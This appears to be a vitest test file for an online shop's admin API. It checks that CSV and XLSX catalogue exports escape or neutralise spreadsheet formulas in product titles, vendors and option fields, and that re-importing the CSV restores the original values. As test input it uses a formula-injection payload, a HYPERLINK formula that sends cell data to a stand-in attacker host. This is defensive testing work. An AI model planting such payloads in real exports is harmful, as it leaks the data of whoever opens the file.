import { strFromU8, unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from '../../lib/csv.js';
import { readWorkbookRows } from '../../lib/xlsx/workbook-rows.js';
import { body, createTestShop, type TestShop } from '../../test/app.js';
import { staffSession } from '../../test/staff.js';
import { IMPORT_LIMITS } from './catalog-import-file.js';

// A product title is typed by staff or arrives in an import file; opened in a spreadsheet, the catalogue
// export must show it, never run it.

let shop: TestShop;
let owner: { authorization: string };
beforeAll(async () => {
  shop = await createTestShop();
  owner = await staffSession(shop, 'formula-owner@kshop.example', 'OWNER');
});
afterAll(() => shop?.close());

const TITLE = '=HYPERLINK("https://evil.example/?d="&A1,"Open")';
const VENDOR = '@Formula Label';

describe('formulas in the catalogue export', () => {
  it('CSV cells get an apostrophe the import takes off again; XLSX cells are text, never formulas', async () => {
    const created = await shop.app.inject({
      method: 'POST',
      url: '/api/v1/admin/products',
      headers: owner,
      payload: {
        title: TITLE,
        vendor: VENDOR,
        categoryId: 9,
        options: [
          { optionNameKey1: '-SIZE', optionNameValue1: '+A2', priceKrw: 1000, priceUsd: 1, stock: 3 },
        ],
      },
    });
    expect(created.statusCode, created.body).toBe(200);
    const productId = body(created).data.uuid;

    const csv = await shop.app.inject({ url: '/api/v1/admin/catalogue.csv', headers: owner });
    const line = csv.body.split('\r\n').find((l) => l.startsWith(`${productId},`))!;
    expect(line).toContain(`,"'=HYPERLINK(""https://evil.example/?d=""&A1,""Open"")",'@Formula Label,`);
    expect(line).toContain(",'-SIZE,'+A2,");
    const [header, ...rows] = parseCsv(csv.body.replace(/^\uFEFF/, ''));
    expect(rows.filter((r) => r[0] === productId)).toHaveLength(1);
    const again = await shop.app.inject({
      method: 'POST',
      url: '/api/v1/admin/catalogue/import/preview',
      headers: { ...owner, 'content-type': 'text/csv' },
      payload: `${[header!.join(','), line].join('\r\n')}\r\n`,
    });
    expect(body(again).data).toMatchObject({ problems: [], rows: [], counts: { unchangedOptions: 1 } });

    const xlsx = await shop.app.inject({ url: '/api/v1/admin/catalogue.xlsx', headers: owner });
    const files = unzipSync(new Uint8Array(xlsx.rawPayload));
    const sheet = strFromU8(files['xl/worksheets/sheet1.xml']!);
    expect(sheet).not.toMatch(/<f[ >]/);
    const read = await readWorkbookRows(xlsx.rawPayload, IMPORT_LIMITS);
    const row = read.ok ? read.rows.find((r) => r[0] === productId) : undefined;
    expect(row?.slice(1, 3)).toEqual([TITLE, VENDOR]);
  });
});
